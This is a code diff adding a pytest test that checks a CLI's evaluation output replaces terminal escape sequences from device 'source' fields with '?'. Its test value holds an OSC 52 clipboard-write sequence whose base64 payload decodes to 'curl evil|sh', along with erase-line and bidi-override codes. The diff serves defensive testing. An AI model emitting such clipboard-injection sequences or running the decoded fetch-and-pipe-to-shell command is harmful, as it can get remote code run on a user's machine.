@@ -246,3 +246,21 @@ def test_csv_columns_and_what_needs_alerts(tmp_path: Path,
     plain.write_text('{"text": "x", "label": "fine"}\n', encoding="utf-8")
     code, _, err = _run(capsys, "model", "eval", "--data", str(plain), "--bundle", BUNDLE)
     assert code == 2 and "(for alert / no-alert figures on any labels: --alerts)" in err
+
+
+def test_a_devices_escape_codes_in_its_sources_do_not_reach_the_terminal(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Judged lines come from devices through `nanofleet alerts export`: a source that
+    carries OSC 52 (write the clipboard), an erase-line or a bidi override is shown as
+    `?`, not obeyed (review, December 2026)."""
+    hostile = "sshd\x1b]52;c;Y3VybCBldmlsfHNo\x07\r\x1b[2K\u202e"
+    rows = [{"text": "Failed password for root from 203.0.113.7 port 22 ssh2",
+             "label": "alert", "source": hostile},
+            {"text": "Accepted publickey for pi from 10.0.0.7 port 51234 ssh2",
+             "label": "ok", "source": hostile}]
+    data = _write(tmp_path / "judged.jsonl", rows)
+    code, out, err = _run(capsys, "model", "eval", "--alerts", "--data", str(data),
+                          "--bundle", BUNDLE, "--normal-label", "ok")
+    assert code == 0, err
+    assert "sshd?]52;c;Y3VybCBldmlsfHNo? ?[2K?" in out
+    assert all(c.isprintable() for line in out.split("\n") for c in line), repr(out)
